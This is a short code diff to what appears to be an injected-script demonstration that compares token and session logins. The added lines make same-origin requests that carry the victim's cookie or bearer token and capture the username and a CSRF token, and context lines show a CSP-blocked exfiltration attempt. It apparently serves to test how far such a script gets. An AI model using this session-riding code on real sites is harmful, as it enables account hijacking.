@@ -35,12 +35,16 @@
     exfiltrateFetch = `blocked (${e.name}: the page's CSP allows connections to its own origin only)`;
   }
   // 2. Ride the login from inside the page: same-origin requests carry the HttpOnly cookie.
+  // (The session model's own route: /v1/me would answer for the hybrid login if there is one too.)
   const headers = model === "token" && loot.access_token ? { authorization: `Bearer ${loot.access_token}` } : {};
+  const path = model === "session" ? "/v1/session" : "/v1/me";
   let sameOrigin;
   try {
-    const r = await fetch("/v1/me", { headers, credentials: "same-origin" });
+    const r = await fetch(path, { headers, credentials: "same-origin" });
     const body = r.ok ? await r.json() : null;
-    sameOrigin = body ? `${r.status} (${body.user.username}, ${body.auth.model})` : String(r.status);
+    const as = body && (body.auth ? body.auth.model : "session");
+    const csrf = body && body.csrf_token ? ", and its answer hands the script the CSRF token for unsafe requests" : "";
+    sameOrigin = body ? `${r.status} (${body.user.username}, ${as})${csrf}` : String(r.status);
   } catch (e) {
     sameOrigin = `failed (${e.name})`;
   }
